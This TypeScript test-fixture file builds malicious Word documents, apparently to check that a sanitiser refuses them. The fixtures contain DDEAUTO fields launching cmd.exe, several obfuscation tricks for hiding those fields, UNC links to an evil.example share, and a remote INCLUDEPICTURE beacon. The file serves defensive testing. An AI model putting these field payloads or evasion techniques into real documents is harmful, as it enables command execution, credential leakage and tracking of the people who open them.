import { refused } from './corpus-file.ts';
import { COMPATIBILITY, code, field, makeDocx, mark, wordPart } from './make-docx.ts';

/** Word documents with a field that starts a program or fetches a file, written in various ways. */
export const docxWithFields = [
  refused('dde.docx', 'A field that starts a program (DDEAUTO)', 'Not on the list of fields', () =>
    makeDocx({ body: field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ') }),
  ),
  refused(
    'dde-split.docx',
    'The same, its code spread over runs',
    'Codes are put together first',
    () => makeDocx({ body: field(' DD', 'E', 'AU', 'TO cmd "/k calc" ') }),
  ),
  refused('dde-simple.docx', 'The same as a simple field', 'Not on the list of fields', () =>
    makeDocx({ body: '<w:p><w:fldSimple w:instr="dde cmd &quot;/k calc&quot;"/></w:p>' }),
  ),
  refused(
    'dde-quoted.docx',
    'The same, its code computed by a field inside (QUOTE)',
    'Fields that make codes are not on the list',
    () => makeDocx({ body: field(' QUOTE 68 68 69 65 85 84 79 ') }),
  ),
  refused(
    'dde-behind-field.docx',
    'The same behind a field inside of it, whose shown result is a harmless code',
    'A code has nothing in it but its letters',
    () =>
      makeDocx({
        body: field(
          '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> SEQ a \\h </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>PAGE </w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> DDEAUTO cmd ',
        ),
      }),
  ),
  refused(
    'dde-by-field.docx',
    'The same as the result of a harmless field, before a harmless code',
    'A code has nothing in it but its letters',
    () =>
      makeDocx({
        body: `<w:p>${mark('begin')}${mark('begin')}${code('REF a')}${mark('separate')}<w:r><w:t>DDEAUTO cmd </w:t></w:r>${mark('end')}${code('PAGE')}${mark('end')}</w:p>`,
      }),
  ),
  refused(
    'share-behind-switches.docx',
    'A link to a folder of a server behind two switches, the first of which takes the second for its word',
    'What a switch is followed by has to be a word',
    () => makeDocx({ body: field(' HYPERLINK \\o \\l \\\\evil.example\\s ') }),
  ),
  refused(
    'dde-without-end.docx',
    'The same in a field that does not end',
    'Such a field is checked as far as it goes',
    () => makeDocx({ body: `<w:p>${mark('begin')}${code('DDEAUTO cmd')}</w:p>` }),
  ),
  refused(
    'dde-behind-choice.docx',
    'The same behind a harmless code that only other programs read (AlternateContent)',
    'A code has nothing in it but its letters',
    () =>
      makeDocx({
        body: field(
          '</w:instrText><x:choice xmlns:x="urn:x"><w:instrText>PAGE </w:instrText></x:choice><w:instrText>DDEAUTO cmd ',
        ),
      }),
  ),
  refused(
    'dde-behind-alternative.docx',
    'The same behind a field that begins in one alternative and ends in another',
    'A field is in one alternative as a whole',
    () =>
      makeDocx({
        body: `<w:p><mc:AlternateContent xmlns:mc="${COMPATIBILITY}"><mc:Choice Requires="w">${mark('begin')}</mc:Choice><mc:Fallback>${code('PAGE')}${mark('end')}</mc:Fallback></mc:AlternateContent>${code('DDEAUTO cmd')}${mark('end')}</w:p>`,
      }),
  ),
  refused(
    'dde-behind-passed-over.docx',
    'The same behind elements that are passed over, two of them but for their content (ProcessContent)',
    'A field is in one element as a whole',
    () =>
      makeDocx({
        body: `<w:p xmlns:x="urn:x" xmlns:mc="${COMPATIBILITY}" mc:Ignorable="x" mc:ProcessContent="x:a"><x:a>${mark('begin')}</x:a><x:b>${code('PAGE ')}</x:b><x:a>${code('DDEAUTO cmd')}${mark('end')}</x:a></w:p>`,
      }),
  ),
  refused(
    'dde-behind-step.docx',
    'The same behind a mark that has a second, foreign step',
    'Attributes of another vocabulary do not count',
    () =>
      makeDocx({
        body: `<w:p xmlns:x="urn:x"><w:r><w:fldChar x:fldCharType="separate" w:fldCharType="begin"/></w:r>${code('DDEAUTO cmd')}${mark('end')}</w:p>`,
      }),
  ),
  refused(
    'dde-behind-code.docx',
    'The same as a simple field with a second, foreign code',
    'Attributes of another vocabulary do not count',
    () =>
      makeDocx({
        body: '<w:p xmlns:x="urn:x"><w:fldSimple x:instr="PAGE" w:instr="DDEAUTO cmd"/></w:p>',
      }),
  ),
  refused(
    'dde-behind-element.docx',
    'The same behind an empty, foreign element in the run of its code, before a harmless code',
    'A code has nothing in it but its letters',
    () => makeDocx({ body: field('<x:a xmlns:x="urn:x"/>DDEAUTO cmd ', 'PAGE ') }),
  ),
  refused(
    'dde-in-font.docx',
    'The same in a header that is declared a scrambled font',
    'A part is used as what it is declared to be',
    () =>
      makeDocx({
        relations: [['rId3', 'header', 'a.odttf']],
        parts: { 'word/a.odttf': wordPart('hdr', field('DDEAUTO cmd')) },
      }),
  ),
  refused(
    'share-behind-mark.docx',
    'A link whose code goes on behind a mark that is passed over, with a folder of a server',
    'A field is in one element as a whole',
    () =>
      makeDocx({
        body: `<w:p xmlns:x="urn:x" xmlns:mc="${COMPATIBILITY}" mc:Ignorable="x">${mark('begin')}${code('HYPERLINK \\l a ')}<x:a>${mark('separate')}</x:a>${code('"\\\\evil.example\\cv"')}${mark('end')}</w:p>`,
      }),
  ),
  refused(
    'included-picture.docx',
    'A field that fetches a picture, and tells when the document is read',
    'Not on the list of fields',
    () => makeDocx({ body: field(' INCLUDEPICTURE "https://evil.example/a.png" \\d ') }),
  ),
];
